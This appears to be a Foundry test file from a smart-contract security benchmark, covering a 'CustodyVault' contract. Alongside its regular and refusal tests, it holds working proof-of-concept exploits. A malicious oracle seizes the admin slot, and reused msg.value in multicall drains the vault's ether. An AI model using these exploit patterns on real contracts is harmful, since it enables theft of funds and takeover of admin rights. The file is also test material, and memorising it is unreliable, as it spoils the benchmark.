// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;
pragma experimental ABIEncoderV2;

import "./CustodyVault.sol";

// assay-canary-e38c16db-6b4a-4c29-8b4c-020175061a06

interface Vm {
    function prank(address who) external;
    function warp(uint256 time) external;
    function deal(address who, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
}

// An honest oracle: so much for a unit, and something for the purity.
contract Oracle {
    uint256 internal constant UNIT = 0.004 ether;

    function valueOf(uint256 units, uint256 purity) external pure returns (uint256) {
        require(units < 2**32 && purity < 2**16, "out of bounds");
        return units * UNIT + units * purity * 0.00001 ether;
    }
}

contract Holder {
    CustodyVault internal vault;

    constructor(CustodyVault _vault) public {
        vault = _vault;
    }

    receive() external payable {}

    function transferLot(uint256 id, address to) public {
        vault.transferLot(id, to);
    }

    function multicall(bytes[] memory calls) public {
        vault.multicall(calls);
    }

    function withdrawLot(uint256 id, uint256 amount) public {
        vault.withdrawLot{value: amount}(id);
    }
}

/// Answers with nothing, with too much, or not at all, by the units it is shown.
contract OddOracle {
    function valueOf(uint256 units, uint256) external pure returns (uint256) {
        if (units == 300) return 0;
        if (units == 200) return 2**128;
        if (units == 2) {
            assembly {
                revert(0, 32)
            }
        }
        assembly {
            return(0, 64)
        }
    }
}

contract Writer {
    address internal slot0;
    address private immutable hand;

    constructor(address _hand) public {
        hand = _hand;
    }

    function valueOf(uint256, uint256) external returns (uint256) {
        slot0 = hand;
        return 1;
    }
}

contract Attacker is Holder {
    Writer internal writer;

    constructor(CustodyVault _vault) public Holder(_vault) {
        writer = new Writer(address(this));
    }

    function leave(uint256 id, uint256 other) external {
        bytes[] memory calls = new bytes[](2);
        calls[0] = abi.encodeWithSelector(vault.withdrawLot.selector, id);
        calls[1] = abi.encodeWithSelector(vault.withdrawLot.selector, other);
        address(vault).call{value: 1 ether}(abi.encodeWithSelector(vault.multicall.selector, calls));
    }

    function run(uint256 id) external {
        address(vault).call(abi.encodeWithSelector(vault.appraise.selector, id, address(writer)));
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    CustodyVault internal vault;
    Holder internal ana;
    Attacker internal mallory;
    Oracle internal oracle;

    function setUp() public {
        vm.warp(1700000000);
        vault = new CustodyVault();
        ana = new Holder(vault);
        mallory = new Attacker(vault);
        oracle = new Oracle();
        vm.deal(address(ana), 1 ether);
        vault._depositLot(address(ana), 300, 125);
        vault._depositLot(address(ana), 200, 80);
        vault._depositLot(address(mallory), 20, 60);
        vault._depositLot(address(mallory), 10, 60);
        vm.deal(address(mallory), 1 ether);
        vm.deal(address(vault), 2 ether); // fees of lots that are gone
    }

    function test_Regular() public {
        bytes[] memory calls = new bytes[](2);
        calls[0] = abi.encodeWithSelector(vault.appraise.selector, 0, address(oracle));
        calls[1] = abi.encodeWithSelector(vault.transferLot.selector, 1, address(mallory));
        ana.multicall(calls);
        require(vault.appraisedValue(0) == 1.575 ether && vault.appraisedBy(0) == address(oracle), "appraised");
        (address owner, , , , ) = vault.lots(1);
        require(owner == address(mallory), "transferred");
        calls[0] = abi.encodeWithSelector(vault.appraise.selector, 1, address(oracle));
        require(!attempt(address(ana), abi.encodeWithSelector(ana.multicall.selector, calls)), "no longer hers");

        vm.warp(1700000000 + 10 days);
        require(vault.feeDue(0) == 0.0006 ether, "two weeks");
        require(!attempt(address(ana), abi.encodeWithSelector(ana.withdrawLot.selector, 0, 0.0005 ether)), "too little");
        ana.withdrawLot(0, 0.001 ether);
        require(address(ana).balance == 0.9994 ether && vault.totalUnits() == 230, "withdrawn, change returned");
        vault._collectFees(address(0xC0), 0.0006 ether);
        require(!attempt(address(ana), abi.encodeWithSelector(ana.withdrawLot.selector, 0, 0.001 ether)), "twice");

        vault._setPendingAdmin(address(0xF00));
        require(!attempt(address(vault), abi.encodeWithSelector(vault._acceptAdmin.selector)), "not named");
        require(vault.admin() == address(this), "admin");

        vm.prank(address(0xF00));
        vault._acceptAdmin();
        require(vault.admin() == address(0xF00), "accepted");
    }

    function attempt(address who, bytes memory data) private returns (bool ok) {
        (ok, ) = who.call(data);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Books and fees are the administrator's, lots their owners'.
    function test_RefusesStrangers() public {
        refuses(address(ana), "only the administrator may do this");
        vault._setPendingAdmin(address(ana));
        refuses(address(ana), "only the administrator may do this");
        vault._depositLot(address(ana), 1, 1);
        refuses(address(ana), "only the administrator may do this");
        vault._collectFees(address(ana), 0);
        refuses(address(mallory), "only the owner of the lot may do this");
        vault.transferLot(0, address(mallory));
        refuses(address(mallory), "only the owner of the lot may do this");
        vault.appraise(0, address(oracle));
        refuses(address(mallory), "only the owner of the lot may do this");
        vault.withdrawLot(0);
    }

    /// Lots that are none, or gone.
    function test_RefusesLots() public {
        vm.expectRevert("the lot needs an owner");
        vault._depositLot(address(0), 1, 1);
        vm.expectRevert("the lot is out of bounds");
        vault._depositLot(address(ana), 0, 1);
        vm.expectRevert("the lot is out of bounds");
        vault._depositLot(address(ana), 1, 1001);
        vm.expectRevert("the lot needs an owner");
        vm.prank(address(ana));
        vault.transferLot(0, address(0));
        vm.expectRevert("there is no such lot");
        vault.transferLot(9, address(mallory));
        vm.expectRevert("there is no such lot");
        vault.appraise(9, address(oracle));
        vm.expectRevert("there is no such lot");
        vault.withdrawLot(9);
        vm.prank(address(ana));
        vault.withdrawLot(0);
        refuses(address(ana), "there is no such lot");
        vault.transferLot(0, address(mallory));
        refuses(address(ana), "there is no such lot");
        vault.appraise(0, address(oracle));
        refuses(address(ana), "there is no such lot");
        vault.withdrawLot(0);
    }

    /// Oracles that are none, and values that say nothing; ether to who takes it.
    function test_RefusesOracles() public {
        refuses(address(ana), "the oracle must be somebody else");
        vault.appraise(0, address(vault));
        vault._depositLot(address(ana), 1, 1);
        address admin = vault.admin();
        refuses(address(ana), "the oracle must be somebody else");
        vault.appraise(0, admin);
        address odd = address(new OddOracle());
        refuses(address(ana), "the value is out of bounds");
        vault.appraise(0, odd);
        refuses(address(ana), "the value is out of bounds");
        vault.appraise(1, odd);
        vault._depositLot(address(ana), 2, 1);
        refuses(address(ana), "the oracle does not answer");
        vault.appraise(4, odd);
        refuses(address(ana), "the oracle does not answer");
        vault.appraise(5, odd);
        vm.expectRevert("the payment was refused");
        vault._collectFees(address(uint160(odd)), 0);
    }

    function exploit() public {
        mallory.run(2);
    }

    function test_Exploit() public {
        exploit();
        require(vault.admin() == address(mallory), "not the administrator");
    }

    function exploit2() public {
        mallory.leave(2, 3);
    }

    function test_Exploit2() public {
        exploit2();
        require(address(mallory).balance >= 2 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
